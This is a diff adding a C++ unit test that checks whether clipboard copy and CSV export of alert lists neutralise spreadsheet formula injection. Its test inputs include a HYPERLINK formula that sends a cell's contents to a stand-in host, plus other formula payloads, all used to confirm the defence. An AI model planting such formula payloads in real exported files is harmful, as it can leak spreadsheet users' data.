@@ -326,6 +326,38 @@ TEST_F(ListToolsTest, ExportWritesEveryRowNewestFirstWithQuotingAndReplacesOnlyW
   EXPECT_EQ(messages_.size(), 2);
 }
 
+// Server texts that a spreadsheet would run as formulas reach it as plain text; the time and
+// the counts, numbers of our own, are never touched, nor is a text that merely holds a sign.
+TEST_F(ListToolsTest, CopyAndExportDisarmFormulaTextsOnly) {
+  center_.lists().clearAll();
+  for (const char* record : {"=HYPERLINK(\"http://x.y/\"&B1|7|093020|1|X|2",
+                             "+1|7|093021|-5|-0.5|-3", "@SUM(1+1)*2|7|093022|1|=1|2",
+                             "\tTAB|7|093023|1|X|2", "\rCR|7|093024|1|X|2", "A-B|7|093025|1|X|2"}) {
+    center_.lists().replayRawAlert(record);
+  }
+  center_.lists().commitPending();
+  list_->selectAll();
+  list_->copyAction()->trigger();
+  EXPECT_EQ(QGuiApplication::clipboard()->text().toStdString(),
+            "Time\tSymbol\tCount\tTrades\tBBO\n"
+            "09:30:25\tA-B\t1\t2\tX\n"
+            "09:30:24\t' CR\t1\t2\tX\n"
+            "09:30:23\t' TAB\t1\t2\tX\n"
+            "09:30:22\t'@SUM(1+1)*2\t1\t2\t'=1\n"
+            "09:30:21\t'+1\t-5\t-3\t'-0.5\n"
+            "09:30:20\t'=HYPERLINK(\"http://x.y/\"&B1\t1\t2\tX\n");
+  chosen_ = QString::fromStdString(dir_.file("raw.csv"));
+  EXPECT_EQ(list_->exportCsvTo(chosen_), SaveOutcome::Saved);
+  EXPECT_EQ(fileText(chosen_),
+            "Time,Symbol,Count,Trades,BBO\r\n"
+            "09:30:25,A-B,1,2,X\r\n"
+            "09:30:24,\"'\rCR\",1,2,X\r\n"
+            "09:30:23,'\tTAB,1,2,X\r\n"
+            "09:30:22,'@SUM(1+1)*2,1,2,'=1\r\n"
+            "09:30:21,'+1,-5,-3,'-0.5\r\n"
+            "09:30:20,\"'=HYPERLINK(\"\"http://x.y/\"\"&B1\",1,2,X\r\n");
+}
+
 TEST_F(ListToolsTest, AddSymbolToFiltersDoesWhatTheDialogsOkDoes) {
   settings_.useSymbolFilters = 1;
   std::vector<SymbolEntry> start = {makeSymbolEntry("ZZZ")};
